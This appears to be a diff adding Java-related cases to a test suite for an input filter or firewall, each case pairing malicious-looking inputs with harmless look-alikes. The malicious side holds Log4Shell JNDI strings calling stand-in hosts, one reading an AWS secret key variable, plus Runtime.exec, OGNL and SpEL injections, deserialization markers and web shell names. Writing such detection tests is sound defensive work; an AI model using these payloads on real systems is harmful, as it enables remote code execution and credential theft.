@@ -326,6 +326,61 @@ CASES: dict[str, tuple[list[tuple[str, str]], list[tuple[str, str]]]] = {
     "llm-encoding-120": ([("prompt", "A" * 1200)], [("prompt", "A" * 900 + " " + "A" * 900)]),
     "llm-encoding-130": ([("bodysize", str(1024 * 1024 + 10))], [("bodysize", "5000")]),
     "llm-encoding-140": ([("prompt", "%41" * 70)], [("prompt", "100% sure")]),
+    # java
+    "java-100": (
+        [
+            ("h:user-agent", "${jndi:ldap://203.0.113.9:1389/a}"),
+            ("h:x-api-version", "${${lower:j}${::-n}di:rmi://x.example/o}"),
+            ("q", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}"),
+            ("json", "${env:AWS_SECRET_ACCESS_KEY}"),
+            ("q", "$\\u007Bjndi:dns://x.example}"),
+            ("cookie", "JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0"),  # base64
+        ],
+        [("prompt", "What was Log4Shell? Attackers sent ${jndi:ldap://...} strings."), ("json", "price: $ {amount}")],
+    ),
+    "java-110": (
+        [("q", "java.lang.Runtime.getRuntime().exec('id')"), ("h:x-custom", 'new ProcessBuilder("id").start()')],
+        [("json", "Java runtime environment 21"), ("q", "process builder pattern")],
+    ),
+    "java-120": (
+        [
+            ("q", "%{(#_memberAccess['allowStaticMethodAccess']=true)}"),
+            ("json", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
+            ("h:content-disposition", "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}"),
+        ],
+        [("json", "#{name} and %{count} are placeholders"), ("q", "100%{")],
+    ),
+    "java-130": (
+        [("qname", "class.module.classLoader.resources.context.parent.pipeline.first.pattern")],
+        [("qname", "class.name"), ("q", "my classloader question")],
+    ),
+    "java-140": (
+        [("q", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"), ("cookie", "aced0005737200")],
+        [("q", "ace of spades"), ("json", "r00ab")],
+    ),
+    "java-150": (
+        [
+            ("q", "org.apache.commons.collections.functors.InvokerTransformer"),
+            ("json", '{"@type":"com.sun.rowset.JdbcRowSetImpl"}'),
+        ],
+        [("json", "the transformer model ran at runtime"), ("q", "lazy map")],
+    ),
+    "java-160": ([("h:x-filename", "shell.jsp"), ("h:x-filename", "a.jspx..")], [("h:x-filename", "notes.json")]),
+    "java-170": (
+        [
+            ("q", "java.io.FileOutputStream"),
+            ("json", "org.springframework.context.support.ClassPathXmlApplicationContext"),
+        ],
+        [("json", "javascript.info"), ("q", "java io tutorial")],
+    ),
+    "java-180": (
+        [("q", "xcnVudGltZQ"), ("cookie", "aW52b2tlcnRyYW5zZm9ybWVy")],
+        [("q", "runtime"), ("q", "aGVsbG8gd29ybGQ")],
+    ),
+    "java-190": (
+        [("q", "java.Runtime"), ("q", "ProcessBuilder with base64data")],
+        [("q", "java coffee"), ("q", "runtime: 20 min")],
+    ),
 }
 
 
